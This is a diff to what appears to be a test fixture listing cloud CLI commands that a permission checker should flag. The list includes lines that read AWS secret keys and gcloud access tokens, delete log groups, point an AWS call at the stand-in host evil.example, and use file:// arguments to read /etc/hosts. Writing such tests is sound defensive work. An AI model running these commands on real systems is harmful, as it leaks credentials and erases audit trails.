@@ -125,6 +125,8 @@ ASKED = r"""
     aws configure get aws_secret_access_key
     aws logs delete-log-group --log-group-name g
     aws iam get-user --endpoint-url http://evil.example
+    aws ec2 describe-instances --filters Name=tag,Values@=file:///etc/hosts
+    aws ec2 describe-instances --filters=file:///etc/hosts
     aws help rm
     gcloud compute instances delete list
     gcloud compute instances delete describe
@@ -139,6 +141,9 @@ ASKED = r"""
     gcloud iam service-accounts keys list
     gcloud auth print-access-token
     gcloud container clusters get-credentials c
+    gcloud container clusters describe c
+    gcloud container clusters list --format=json
+    gcloud compute project-info describe
     gcloud beta compute instances list
     gcloud compute instances list --flags-file=x
     gsutil cp a gs://b
